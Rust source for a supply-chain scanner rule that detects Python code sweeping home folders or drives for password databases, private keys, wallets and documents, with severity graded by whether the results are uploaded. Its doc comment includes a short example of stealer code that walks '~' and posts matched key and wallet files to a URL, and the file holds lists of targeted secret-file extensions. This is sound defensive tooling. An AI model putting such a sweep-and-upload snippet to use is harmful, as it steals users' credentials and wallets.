use std::collections::BTreeSet;

use crate::finding::{Finding, Severity};
use crate::python::{Call, FileAnalysis, QualName, names};
use crate::rules::collection::{
    Root, Sinks, is_recursive, is_walk, runs_by_itself, same_function, walk_root, when,
};
use crate::rules::{PackageFacts, Rule, RuleMeta, code_finding, declare_rule};

declare_rule! {
    /// Walks over the user's home folder or whole drives that pick out
    /// documents, key files and wallets, graded by whether what is found is
    /// sent out.
    ///
    /// ## What it finds
    /// A folder walk or listing (`os.walk`, `os.scandir`, `os.listdir`,
    /// `glob` with `**`, `Path.rglob`) rooted at the home folder (`~`,
    /// `Path.home()`, `%USERPROFILE%`, `$HOME`, Desktop/Documents/Downloads)
    /// or, when it descends into subfolders, at the root of a drive (`/`,
    /// `C:\`, every drive letter), in a
    /// file that names what it is looking for: key and secret files
    /// (`.kdbx`, `.pem`, `.key`, `.ppk`, `.pfx`, `.ovpn`, `wallet.dat`,
    /// `id_rsa`, …) or at least two kinds of documents (`.docx`, `.xlsx`,
    /// `.pdf`, `.txt`, …).
    ///
    /// ## Why it matters
    /// Stealers sweep the disk for password databases, private keys, wallet
    /// files and documents, copy them into an archive and upload it.
    /// Search, backup and indexing tools walk folders too, usually ones
    /// the user names. The severity comes from the chain:
    /// - a send (HTTP, sockets, mail, FTP, `curl`) in the walking function,
    ///   or the walking function copying or archiving what it finds in a
    ///   file that sends: high at runtime when key or wallet files are
    ///   sought (medium for documents alone: backup tools upload
    ///   documents), critical when the sweep runs on import, at install or
    ///   at interpreter start;
    /// - a send elsewhere in the file: medium at runtime, high when the
    ///   sweep runs by itself;
    /// - no send: low at runtime, medium when the sweep runs by itself.
    ///
    /// ## Example
    /// ```python
    /// import os, requests
    /// for root, _, files in os.walk(os.path.expanduser("~")):
    ///     for name in files:
    ///         if name.endswith((".kdbx", ".pem", "wallet.dat")):
    ///             requests.post(URL, files={"f": open(os.path.join(root, name), "rb")})
    /// ```
    ///
    /// ## References
    /// MITRE ATT&CK T1083 (File and Directory Discovery), T1005 (Data from
    /// Local System), T1552.004 (Private Keys), T1560 (Archive Collected
    /// Data).
    pub struct DocumentSweep {
        id: "AY704",
        slug: "document-sweep",
        category: Collection,
        severity: Critical,
    }
}

/// Key, secret and wallet files: one is enough.
const SECRET_FILES: &[&str] = &[
    ".kdbx",
    ".kdb",
    ".key",
    ".pem",
    ".ppk",
    ".pfx",
    ".p12",
    ".ovpn",
    ".gpg",
    ".asc",
    ".keystore",
    ".jks",
    ".wallet",
    "wallet.dat",
    "id_rsa",
    "id_ed25519",
    "id_ecdsa",
    "id_dsa",
];

/// Documents: two kinds are needed (one extension is a search tool's
/// filter).
const DOCUMENTS: &[&str] = &[
    ".doc", ".docx", ".xls", ".xlsx", ".ppt", ".pptx", ".pdf", ".txt", ".rtf", ".odt", ".ods",
    ".csv",
];

/// What the file says it looks for.
#[derive(Debug, Default)]
struct Targets {
    secrets: BTreeSet<&'static str>,
    documents: BTreeSet<&'static str>,
}

impl Targets {
    fn of(file: &FileAnalysis) -> Targets {
        let mut targets = Targets::default();
        let texts = file
            .strings
            .iter()
            .map(|s| &*s.value)
            .chain(file.calls.iter().flat_map(Call::arg_texts));
        for text in texts.filter(|t| t.len() <= 512) {
            for token in text.split(|c: char| {
                c.is_whitespace() || matches!(c, ',' | ';' | '|' | '(' | ')' | '"' | '\'')
            }) {
                let token = token.trim_start_matches("**/").trim_start_matches('*');
                if token.len() < 4 {
                    continue;
                }
                let lower = token.to_ascii_lowercase();
                if let Some(hit) = SECRET_FILES.iter().find(|t| {
                    lower == **t || (!t.starts_with('.') && lower.ends_with(&format!("/{t}")))
                }) {
                    targets.secrets.insert(hit);
                } else if let Some(hit) = DOCUMENTS.iter().find(|t| lower == **t) {
                    targets.documents.insert(hit);
                }
            }
        }
        targets
    }

    fn found(&self) -> bool {
        !self.secrets.is_empty() || self.documents.len() >= 2
    }

    fn describe(&self) -> String {
        let list: Vec<&str> = self
            .secrets
            .iter()
            .chain(self.documents.iter())
            .take(5)
            .copied()
            .collect();
        list.join(", ")
    }
}

impl Rule for DocumentSweep {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, facts: &PackageFacts<'_>, out: &mut Vec<Finding>) {
        for file in facts.python {
            let walks: Vec<(&Call, Root)> = file
                .calls
                .iter()
                .filter(|c| is_walk(&c.name))
                .filter_map(|c| walk_root(file, c).map(|r| (c, r)))
                // A listing of `/` is not a sweep; a listing of the
                // Desktop may be.
                .filter(|(c, r)| *r == Root::Home || (*r == Root::Drive && is_recursive(c)))
                .collect();
            if walks.is_empty() {
                continue;
            }
            let targets = Targets::of(file);
            if !targets.found() {
                continue;
            }
            let sinks = Sinks::of(file);
            let mut seen = BTreeSet::new();
            for (walk, root) in walks {
                if !seen.insert((walk.function.as_deref(), walk.context)) {
                    continue;
                }
                let function = walk.function.as_deref();
                // Copying or archiving what was found is the first half of
                // an upload done elsewhere in the file.
                let gathers = same_function(file, walk).any(|c| gathers_files(&c.name));
                let (tier, how) = match sinks.in_function(function) {
                    Some(sink) => (2, format!(", and sends with `{}`", sink.name)),
                    None if gathers && sinks.any() => (
                        2,
                        ", copies or archives what it finds in a file that sends data".to_owned(),
                    ),
                    None if sinks.any() => (1, ", in a file that sends data".to_owned()),
                    None => (0, String::new()),
                };
                let automatic = runs_by_itself(file, walk.context);
                let severity = match (tier, automatic) {
                    (0, false) => Severity::Low,
                    (0, true) | (1, false) => Severity::Medium,
                    (1, true) => Severity::High,
                    (_, true) => Severity::Critical,
                    (_, false) if targets.secrets.is_empty() => Severity::Medium,
                    (_, false) => Severity::High,
                };
                let mut f = code_finding(
                    &Self::META,
                    file,
                    walk,
                    format!(
                        "`{}` sweeps {} {} for {}{how}",
                        walk.name,
                        root.describe(),
                        when(file, walk.context),
                        targets.describe()
                    ),
                );
                f.severity = severity;
                out.push(f);
            }
        }
    }
}

/// Calls that copy files or add them to an archive.
fn gathers_files(name: &QualName) -> bool {
    names::copies_files(name)
        || name
            .method_of_result()
            .is_some_and(|(called, method)| match called.as_str() {
                "zipfile.ZipFile" => matches!(method, "write" | "writestr"),
                "tarfile.open" => method == "add",
                _ => false,
            })
}
